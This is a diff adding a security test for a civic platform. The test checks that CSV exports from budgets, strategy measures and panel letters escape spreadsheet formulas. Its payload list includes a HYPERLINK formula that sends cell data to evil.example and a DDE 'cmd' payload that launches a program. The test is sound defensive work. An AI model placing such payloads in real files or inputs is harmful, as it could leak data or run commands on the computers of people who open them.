@@ -1,0 +1,173 @@
+import { parse } from "csv-parse/sync";
+import { eq, inArray } from "drizzle-orm";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { budgetHeadings } from "../../src/modules/budget/data/schema";
+import { generateVotingCodes } from "../../src/modules/budget/use-cases/generate-codes";
+import { measures } from "../../src/modules/strategy/data/schema";
+import { seedStrategy } from "../../src/modules/strategy/use-cases/seed-demo-strategy";
+import { createAccount, signIn } from "../support/accounts";
+import { createTestApp, type TestApp } from "../support/app";
+import { BrowserClient } from "../support/browser-client";
+import { feasibleProjects, proposalBudget } from "../support/budget";
+import { uploadFile } from "../support/panel/browser";
+
+/**
+ * Every CSV the platform writes is safe to open in a spreadsheet: text that people wrote (a project
+ * title, a heading, a measure, an address in a register extract) and that a spreadsheet would run as
+ * a formula reaches the file with a leading apostrophe. The payloads are seeded into every such field,
+ * every export is downloaded, and no cell may start with a formula trigger (also after leading blanks).
+ */
+const payloads = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
+  "+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(A1)",
+  "\t=1+1",
+  "\r=1+1",
+  " =1+1",
+  "\uff1dSUM(A1)",
+];
+
+const trigger = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;
+
+function cells(csv: string): string[] {
+  return (parse(csv.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();
+}
+
+/** Asserts that each payload arrived in the export (neutralised) and that no cell can run. */
+function expectSafe(csv: string, expected: readonly string[]): void {
+  const all = cells(csv);
+  for (const cell of all) expect(trigger.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
+  for (const payload of expected) expect(all).toContain(`'${payload}`);
+}
+
+/** A CSV field as a register's export writes it (quoted, quotes doubled), so the payload arrives as it is. */
+const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
+
+const DAY = 24 * 60 * 60 * 1000;
+let t: TestApp;
+let now = new Date(Date.UTC(2026, 4, 1, 10));
+let office: BrowserClient;
+const covered = new Set<string>();
+
+beforeAll(async () => {
+  t = await createTestApp({ deps: { clock: () => now } });
+  office = new BrowserClient(t.app);
+  await signIn(
+    office,
+    t.deps,
+    await createAccount(t.deps, { email: "office@example.org", displayName: "Amt", roles: ["strategy_office"] }),
+  );
+});
+afterAll(() => t.close());
+
+describe("CSV exports with formula payloads in every field people write", () => {
+  it("budget: results and voting codes", async () => {
+    const start = now.getTime();
+    const budget = await proposalBudget(t, {
+      slug: "kiezkasse-csv",
+      proposalsStart: new Date(start - 30 * DAY),
+      reviewStart: new Date(start - 20 * DAY),
+      votingStart: new Date(start - 10 * DAY),
+      resultsStart: new Date(start + 5 * DAY),
+      implementationStart: new Date(start + 40 * DAY),
+    });
+    const [heading] = await t.deps.database.db
+      .select()
+      .from(budgetHeadings)
+      .where(eq(budgetHeadings.budgetId, budget.id));
+    const headingId = heading?.id as string;
+    await t.deps.database.db
+      .update(budgetHeadings)
+      .set({ name: payloads[0] as string })
+      .where(eq(budgetHeadings.id, headingId));
+    await feasibleProjects(
+      t.deps.database.db,
+      budget.id,
+      now,
+      payloads.map((title) => ({ headingId, title, description: title, estimatedCost: 100 })),
+    );
+
+    await office.get(`/budgets/${budget.slug}/manage`);
+    const codes = await office.post(`/budgets/${budget.slug}/codes`, { headingId, count: "2", format: "csv" });
+    expect(codes.headers.get("content-type")).toContain("text/csv");
+    expectSafe(await codes.text(), [payloads[0] as string]);
+    covered.add("POST /budgets/:slug/codes");
+
+    const { codes: issued } = await generateVotingCodes(
+      t.deps,
+      { actor: { kind: "system", label: "test" } },
+      { budgetId: budget.id, headingId, count: 1 },
+    );
+    expect(issued).toHaveLength(1);
+    now = new Date(start + 6 * DAY);
+    const results = await t.app.request(`/budgets/${budget.slug}/results.csv`);
+    expect(results.status).toBe(200);
+    expectSafe(await results.text(), payloads);
+    covered.add("GET /budgets/:slug/results.csv");
+  });
+
+  it("strategy: the measures export on the page and in the API", async () => {
+    await seedStrategy(t.deps);
+    const rows = await t.deps.database.db.select({ id: measures.id }).from(measures).limit(payloads.length);
+    for (const [i, row] of rows.entries()) {
+      const payload = payloads[i] as string;
+      await t.deps.database.db
+        .update(measures)
+        .set({ titleDe: payload, summaryDe: payload, descriptionDe: payload, titleEn: payload })
+        .where(eq(measures.id, row.id));
+    }
+    const changed = rows.map((r) => r.id);
+    expect(changed.length).toBe(payloads.length);
+    const stored = await t.deps.database.db.select().from(measures).where(inArray(measures.id, changed));
+    expect(stored.map((m) => m.titleDe).sort()).toEqual([...payloads].sort());
+
+    for (const path of ["/measures/export.csv", "/api/v1/measures.csv"]) {
+      const response = await t.app.request(path);
+      expect(response.status).toBe(200);
+      expectSafe(await response.text(), payloads);
+      covered.add(`GET ${path}`);
+    }
+  });
+
+  it("panel: the letters made from a register extract", async () => {
+    // Signed in again: the budget's clock moved on past the first session.
+    const coordinator = new BrowserClient(t.app);
+    await signIn(
+      coordinator,
+      t.deps,
+      await createAccount(t.deps, { email: "panel@example.org", displayName: "Rat", roles: ["strategy_office"] }),
+    );
+    const office = coordinator;
+    await office.get("/panels/new");
+    const created = await office.post("/panels/new", {
+      name: "Rat CSV",
+      size: "6",
+      lotterySize: "100",
+      quotas: "feature,value,min,max\ngender,female,2,4\ngender,male,2,4\n",
+    });
+    expect(created.status, office.lastHtml.slice(0, 3000)).toBe(303);
+    const panelId = (created.headers.get("location") ?? "").match(/\/panels\/([^/?]+)/)?.[1] as string;
+    const extract = [
+      "name,street,postcode,city",
+      ...payloads.map((p, i) => `${quoted(p)},${quoted(p)},1011${i},Berlin`),
+    ].join("\n");
+    await office.get(`/panels/${panelId}/manage`);
+    const upload = await uploadFile(t, office, `/panels/${panelId}/sample`, "sample", extract);
+    expect(upload.status, office.lastHtml.slice(0, 3000)).toBe(303);
+    expect((await office.post(`/panels/${panelId}/invitations`, {})).status).toBe(303);
+    const letters = await office.get(`/panels/${panelId}/letters.csv`);
+    expect(letters.status).toBe(200);
+    expectSafe(await letters.text(), payloads);
+    covered.add("GET /panels/:id/letters.csv");
+  });
+
+  it("covers every route that answers with CSV", () => {
+    const csvRoutes = t.app.routes
+      .filter((r) => r.method !== "ALL" && /\.csv$/.test(r.path))
+      .map((r) => `${r.method} ${r.path}`);
+    // Answers CSV on a form choice rather than by its path.
+    csvRoutes.push("POST /budgets/:slug/codes");
+    for (const route of new Set(csvRoutes)) expect(covered, route).toContain(route);
+  });
+});
